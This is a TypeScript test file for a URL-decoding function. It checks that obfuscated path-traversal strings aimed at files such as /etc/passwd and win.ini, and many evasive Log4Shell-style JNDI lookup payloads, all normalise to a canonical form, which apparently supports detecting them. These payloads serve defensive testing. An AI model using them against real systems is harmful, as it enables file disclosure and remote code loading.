// biome-ignore-all lint/suspicious/noTemplateCurlyInString: the strings are shell variables and lookups.
import fc from 'fast-check'
import { expect, test } from 'vitest'
import { decodeUrl, urlTextMax } from './url.ts'

test.each([
  ['/a/%2e%2e/%2e%2e/etc/passwd', '/a/../../etc/passwd'],
  ['/a/%252e%252e%252fetc', '/a/../etc'],
  ['/a/%25252e%25252e/etc', '/a/../etc'],
  ['/a/..%c0%af..%c0%afetc', '/a/../../etc'],
  ['/a/%c0%ae%c0%ae/etc', '/a/../etc'],
  ['/a/%e0%80%ae%f0%80%80%ae/etc', '/a/../etc'],
  ['/a/%u002e%u002e%u2215etc', '/a/../etc'],
  ['/a/%uff0e%uff0e/etc', '/a/../etc'],
  ['/a/..\\..\\windows\\win.ini', '/a/../../windows/win.ini'],
  ['/a?f=..%5c..%5cboot.ini', '/a?f=../../boot.ini'],
  ['/a?f=&#x2e;&#46;&sol;etc', '/a?f=../etc'],
  ['/a+b?q=1+or+1%2B1', '/a+b?q=1 or 1+1'],
  ['/%e4%bd%a0', '/你'],
  ['/%ff%fe', '/ÿþ'],
  ['/100%', '/100%'],
])('%s reads %s', (url, decoded) => {
  expect(decodeUrl(url)).toBe(decoded)
})

test.each([
  ['${jndi:ldap://x/a}'],
  ['${${lower:j}ndi:ldap://x/a}'],
  ['${${::-j}${::-n}${::-d}${::-i}:${::-l}dap://x/a}'],
  ['${${env:NaN:-j}ndi:${sys:none:-l}dap://x/a}'],
  ['${${lower:${upper:j}}ndi:ldap://x/a}'],
  ["${${date:'j'}ndi:ldap://x/a}"],
  ['${${base64:am5kaQ==}:ldap://x/a}'],
  ['%24%7bjndi:ldap://x/a%7d'],
  ['%2524%257b%2524%257blower:j%257dndi:ldap://x/a%257d'],
  ['\\u0024\\u007bjndi:ldap://x/a}'],
])('%s is a JNDI lookup', (text) => {
  expect(decodeUrl(`/?x=${text}`)).toBe('/?x=${jndi:ldap://x/a}')
})

test('any text decodes, to no more than the limit, and plain text to itself', () => {
  const parts = fc.constantFrom(
    ...[
      '%',
      '25',
      '2e',
      '%2e',
      '%c0',
      '%u',
      '002e',
      '${',
      '}',
      ':-',
      'lower:',
      '\\',
      '..',
      '&#',
      ';',
      '+',
      '?',
    ],
  )
  const urls = fc.oneof(
    fc.array(parts, { maxLength: 500 }).map((all) => all.join('')),
    fc.string({ unit: 'binary', maxLength: 200 }),
  )
  fc.assert(
    fc.property(urls, (url) => {
      expect(decodeUrl(url).length).toBeLessThanOrEqual(Math.min(url.length, urlTextMax))
    }),
    { numRuns: 1_000 },
  )
  fc.assert(
    fc.property(fc.stringMatching(/^[a-z0-9/._=-]{0,50}$/), (url) => {
      expect(decodeUrl(url)).toBe(url)
    }),
  )
})
